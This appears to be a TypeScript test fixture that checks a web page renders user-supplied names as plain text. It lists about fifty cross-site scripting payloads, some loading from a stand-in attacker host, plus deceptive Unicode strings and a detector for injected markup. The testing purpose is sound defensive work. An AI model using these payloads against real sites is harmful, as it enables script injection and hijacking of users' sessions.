/** Texts that would run, load or rebuild the page, were they ever taken for anything but text (promise V-J1, promise V-J2). */
export const XSS: readonly string[] = [
  '<script>window.pwned=1</script>',
  '<script src=//evil.example></script>',
  '"><script>window.pwned=1</script>',
  "'><script>window.pwned=1</script>",
  '</title><script>window.pwned=1</script>',
  '</textarea><script>window.pwned=1</script>',
  '</p></div><script>window.pwned=1</script>',
  '<scr<script>ipt>window.pwned=1</scr</script>ipt>',
  '<SCRIPT/x>window.pwned=1</SCRIPT>',
  '<img src=x onerror=window.pwned=1>',
  '<img src=x onerror="window.pwned=1">',
  '<img/src=x/onerror=window.pwned=1//',
  '<image href=x onerror=window.pwned=1>',
  '<svg onload=window.pwned=1>',
  '<svg><script>window.pwned=1</script></svg>',
  '<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=pwned>#pwned"/></svg>',
  '<svg><foreignObject><b id=pwned>b</b></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>',
  '<math href="javascript:window.pwned=1">m</math>',
  '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=window.pwned=1 src>">',
  '<listing>&lt;img src=x onerror=window.pwned=1&gt;</listing>',
  '<template><img src=x onerror=window.pwned=1></template>',
  '<iframe src="javascript:window.pwned=1"></iframe>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<object data="javascript:window.pwned=1"></object>',
  '<embed src="javascript:window.pwned=1">',
  '<a href="javascript:window.pwned=1">a</a>',
  '<a href="jav&#x09;ascript:window.pwned=1">a</a>',
  'javascript:window.pwned=1',
  'data:text/html,<script>window.pwned=1</script>',
  '<base href="//evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css"; body{display:none}</style>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<details open ontoggle=window.pwned=1>d</details>',
  '<input autofocus onfocus=window.pwned=1>',
  '<video><source onerror=window.pwned=1></video>',
  '<body onload=window.pwned=1>',
  '<!--><img src=x onerror=window.pwned=1>-->',
  '<![CDATA[<img src=x onerror=window.pwned=1>]]>',
  '&lt;b id=pwned&gt;b&lt;/b&gt;',
  '\\u003cimg src=x onerror=window.pwned=1\\u003e',
  '{{constructor.constructor("window.pwned=1")()}}',
  '${window.pwned=1}',
  '<%= window.pwned=1 %>',
  '{evil, plural, other {<b id=pwned>#</b>}}',
  '<strong id=pwned>s</strong>',
  "'-window.pwned=1-'",
];

/** What is odd to read, and odd to lay out: directions turned, nothing to see, signs on signs, no place to break (V-J3). */
export const ODD: readonly string[] = [
  '\u202eabcdef\u202c gpj.exe',
  '\u2066\u2067\u2068 never closed',
  'zero\u200bwidth\u200cjoin\u200ders\u2060\ufeff',
  `Z${'\u0351'.repeat(200)}algo`,
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u{20bb7}',
  'w'.repeat(300),
];

const MADE =
  'script:not([src^="/"]), iframe, object, embed, base, meta[http-equiv], math, style, [id="pwned"], strong[id]';

/** What is on the page that only a text taken for markup can have made. */
export function madeOfTexts(): string[] {
  const found = [...document.body.querySelectorAll(MADE)];
  const handlers = [...document.body.querySelectorAll('*')].filter((element) =>
    [...element.attributes].some(
      ({ name, value }) =>
        /^on/i.test(name) ||
        (/^(?:href|src|action|formaction|data)$/i.test(name) && /^\s*(?:javascript|data:text)/i.test(value)),
    ),
  );
  const ran = 'pwned' in window ? ['a script ran'] : [];
  return [...ran, ...[...found, ...handlers].map(({ outerHTML }) => outerHTML.slice(0, 200))];
}

/** Everything that a person can read or hear on the page. */
function said(): string {
  const attributes = [...document.body.querySelectorAll<HTMLElement>('[title], [aria-label], [placeholder]')].flatMap(
    (element) => ['title', 'aria-label', 'placeholder'].map((name) => element.getAttribute(name) ?? ''),
  );
  const typed = [...document.body.querySelectorAll('input')].map(({ value }) => value);
  return [document.body.textContent, ...attributes, ...typed].join('\n');
}

/** Each name stands on the page as the text that it is, and nothing was made of any (V-J2). */
export function expectText(names: readonly string[]): void {
  expect(madeOfTexts()).toEqual([]);
  const all = said();
  expect(names.filter((name) => !all.includes(name))).toEqual([]);
}
